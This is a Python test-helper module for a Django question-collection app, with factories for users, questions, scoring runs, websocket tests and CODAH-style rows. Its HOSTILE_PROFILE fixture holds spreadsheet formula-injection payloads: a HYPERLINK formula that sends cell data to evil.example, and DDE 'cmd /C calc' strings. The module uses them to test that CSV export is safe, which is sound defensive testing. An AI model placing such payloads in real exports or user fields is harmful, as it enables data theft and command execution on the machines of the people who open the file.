"""Helpers for building test data; the fixtures that use them are in the root conftest.py."""
import contextlib
from collections.abc import Sequence

from django.urls import reverse
from rest_framework.test import APIClient

from accounts.models import User
from accounts.tests.factories import make_user
from collector.models import Question
from collector.selectors.validation import display_order, validation_token
from collector.services.validation import validation_submit
from courses.services import course_join
from mlcore.configs import MCPrediction
from mlcore.testing import make_toy_examples

FIXED_PREDICTION = MCPrediction(probs=(0.1, 0.2, 0.3, 0.4), predicted=3, model_name="tiny", model_revision="r")
MODEL_PICK = 3


# Cells a spreadsheet would run as formulas (OWASP CSV-injection examples); usernames may only
# hold letters, digits and . @ + - _, so the username starts with a minus instead.
HOSTILE_PROFILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "last_name": "+cmd|' /C calc'!A0",
    "section": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sis_user_id": "\t=1+1",
    "email": "=1+1@evil.example",
}
HOSTILE_USERNAME = "-2+3"


def enrol_hostile_student(course) -> User:
    """A student of ``course`` whose every text field would run as a spreadsheet formula."""

    user = make_user(HOSTILE_USERNAME, **HOSTILE_PROFILE)
    course_join(user=user, join_code=course.join_code)
    return user


def assert_spreadsheet_safe(rows: list[list[str]]) -> None:
    """No parsed CSV cell starts with a character that makes a spreadsheet run it."""
    from core.csv_safety import FORMULA_TRIGGERS

    dangerous = [cell for row in rows for cell in row if cell[:1] in FORMULA_TRIGGERS]
    assert not dangerous, dangerous


def question_data(**overrides) -> dict:
    """A valid submission in the service's keyword form."""
    data = {
        "prompt": "The man ate the whole pizza by himself. He",
        "choices": ["was very hungry.", "was not hungry at all.", "gave the pizza to his dog.", "ate a salad instead."],
        "correct_index": 0,
        "categories": [],
    }
    data.update(overrides)
    return data


def add_toy_questions(round_, author, count: int, *, seed: int, categories: Sequence[Sequence[str]] = (("other",),),
                      **fields) -> None:
    """``count`` learnable toy questions (:func:`mlcore.testing.make_toy_examples`) by ``author`` in ``round_``.

    The i-th question gets ``categories[i % len(categories)]``; ``fields`` set other columns (e.g. ``status``).
    """
    Question.objects.bulk_create(
        Question(round=round_, author=author, prompt=e.prompt, choices=list(e.choices), correct_index=e.label,
                 categories=list(categories[i % len(categories)]), **fields)
        for i, e in enumerate(make_toy_examples(count, seed=seed))
    )


def toy_scoring_round(round_, author, checkpoint, config: dict, *, questions: int, seed: int,
                      categories: Sequence[Sequence[str]] = (("other",),)):
    """``round_`` ready for real scoring: ``config`` fine-tunes ``checkpoint`` on toy questions of ``author``."""
    round_.base_checkpoint = str(checkpoint)
    round_.scoring_config = config
    round_.save()
    add_toy_questions(round_, author, questions, seed=seed, categories=categories)
    return round_


def finished_scoring_run(round_, correct: dict[int, list[bool]], *, kind: str = "cross_validation", folds: int = 2,
                         status: str = "done", error: str = ""):
    """A scoring run stored as if it had finished: ``correct[question_id]`` per trial.

    For page, grade and consumer tests that need scoring results without fine-tuning anything.
    Questions are put in folds round-robin; the summary has the shape ``services.scoring._finish`` writes.
    """
    from django.utils import timezone

    from collector.models import CVPrediction, ScoringFold, ScoringRun

    ids = sorted(correct)
    trials = len(next(iter(correct.values()))) if correct else 1
    fold_of = {pk: i % folds for i, pk in enumerate(ids)}
    fold_accuracy = [
        [sum(correct[pk][t] for pk in ids if fold_of[pk] == f) / max(1, sum(fold_of[pk] == f for pk in ids))
         for f in range(folds)]
        for t in range(trials)
    ]
    accuracy = sum(sum(flags) for flags in correct.values()) / max(1, len(ids) * trials)
    mean = sum(sum(row) / folds for row in fold_accuracy) / trials
    summary = {"accuracy": accuracy, "mean": mean, "std": 0.05 if trials > 1 else None,
               "fold_accuracy": fold_accuracy, "questions": len(ids),
               "fold_questions": [sum(fold_of[pk] == f for pk in ids) for f in range(folds)]}
    if kind == "answer_only":
        summary.update(answer_only_accuracy=accuracy, binomial_pvalue=0.0123)
    run = ScoringRun.objects.create(
        round=round_, kind=kind, status=status, folds=folds, trials=trials, base_checkpoint="tiny",
        question_ids=ids, summary=summary if status == "done" else {}, error=error,
        progress={"stage": status, "done_folds": folds * trials, "total_folds": folds * trials},
        finished_at=timezone.now(),
    )
    if status == "done":
        for t in range(trials):
            for f in range(folds):
                ScoringFold.objects.create(run=run, trial=t, fold=f, accuracy=fold_accuracy[t][f], n_train=1,
                                           n_test=1, seconds=0.1)
        CVPrediction.objects.bulk_create(
            CVPrediction(run=run, question_id=pk, trial=t, fold=fold_of[pk], probs=[0.25] * 4,
                         predicted_index=0, correct=correct[pk][t])
            for pk in ids for t in range(trials)
        )
    return run


def validate(question, validator, original_index, **kwargs):
    """Validate ``question`` as ``validator`` picking the completion at ``original_index`` of the
    author's order (None: no pick), through a freshly issued token, like the page does."""

    token = validation_token(question=question, validator=validator)
    order = display_order(question_id=question.pk, validator_id=validator.pk)
    position = None if original_index is None else order.index(original_index)
    return validation_submit(validator=validator, token=token, position=position, **kwargs)


async def connect_author_socket(user, round_id, *, loaded: bool = True):
    """An open author websocket (``ws/author/<round_id>/``) of ``user``, through the real routing."""
    from channels.routing import URLRouter
    from channels.testing import WebsocketCommunicator

    from collector.routing import websocket_urlpatterns

    communicator = WebsocketCommunicator(URLRouter(websocket_urlpatterns), f"/ws/author/{round_id}/")
    communicator.scope["user"] = user
    connected, _ = await communicator.connect()
    assert connected
    if loaded:
        # The socket starts loading the round's models; tests want predictions, not "loading", first.
        # (Waited for here rather than through the socket, whose connect() may not have run yet.)
        await _models_loaded(round_id)
    return communicator


# A draft as the authoring page sends it over the author websocket (tests add "seq", "token"...).
DRAFT = {
    "type": "draft",
    "prompt": "Tom forgot his umbrella. He",
    "choices": ["got wet.", "stayed dry.", "flew home.", "ate the rain."],
    "answer": 1,
}


async def draft_prediction(communicator, message: dict) -> dict:
    """Send a draft ``message`` on an author websocket; its reply, which must be a prediction."""
    await communicator.send_json_to(message)
    reply = await communicator.receive_json_from(timeout=30)
    assert reply["type"] == "prediction", reply
    return reply


async def _models_loaded(round_id: int) -> None:
    """The round's models loaded in this process (as the socket's warm-up does), failures ignored."""
    from channels.db import database_sync_to_async

    from collector.models import Round
    from modelhub.inference import inference_service

    round_ = await database_sync_to_async(
        Round.objects.select_related("live_model", "answer_only_model").filter(pk=round_id).first)()
    for version in (round_.live_model, round_.answer_only_model) if round_ is not None else ():
        if version is not None:
            with contextlib.suppress(Exception):
                await inference_service.wait_until_loaded(version)


# Eight small CODAH-style rows written for these tests, in canonical form (so export == input).
GOOD_ROWS = [
    ("q", "Sara had four apples and ate one. She", "had three apples left.", "had five apples.", "had no apples.", "had ten apples.", 0),
    ("i", "Ben said the test was a breeze. He", "felt a cold wind.", "found the test easy.", "failed badly.", "opened a window.", 1),
    ("n", "The shop was not open, so Ana", "bought bread inside.", "paid the cashier.", "went home without bread.", "ate lunch there.", 2),
    ("r", "Kim gave Lee a book because she had finished it. Lee", "read the book next.", "wrote the book.", "finished it first.", "burned the shelf.", 0),
    ("p", "The pitcher threw the ball. The crowd", "poured water from it.", "cheered loudly.", "filled it with milk.", "washed the jug.", 1),
    ("o", "It began to rain, so Omar", "put on sunglasses.", "watered the lawn.", "opened his umbrella.", "lit a campfire.", 2),
    ("qn", "None of the three cups were full. Each cup", "was not full.", "overflowed.", "held ten litres.", "was full.", 0),
    ("ir", "Mia told Jo to break a leg before the show. Jo", "hurt his knee.", "called a doctor.", "thanked her and went on stage.", "broke a chair.", 2),
]


def tsv(rows) -> str:
    """Rows as CODAH TSV text, one line each."""
    return "".join("\t".join(str(field) for field in row) + "\n" for row in rows)


def api_client(user) -> APIClient:
    """A DRF test client signed in as ``user`` (the API tests' one way in)."""
    client = APIClient()
    client.force_authenticate(user)
    return client


def round_page_url(name: str, round_) -> str:
    """The URL of one of a round's pages or buttons, ``collector:<name>``."""
    return reverse(f"collector:{name}", args=[round_.pk])


def assert_queries_do_not_grow_with_questions(client, url: str, *, author, round_) -> None:
    """Opening ``url`` takes as many database queries with eleven questions of ``author`` in ``round_``
    as with one (no query per question)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from collector.services.questions import question_submit

    def queries() -> int:
        with CaptureQueriesContext(connection) as context:
            assert client.get(url).status_code == 200
        return len(context)

    question_submit(user=author, round_id=round_.pk, **question_data(prompt="First. He"))
    few = queries()
    for i in range(10):
        question_submit(user=author, round_id=round_.pk, **question_data(prompt=f"More {i}. He"))
    assert queries() == few


def messages_of(response) -> list[str]:
    """The flash messages a page was rendered with."""
    return [str(message) for message in response.context["messages"]]
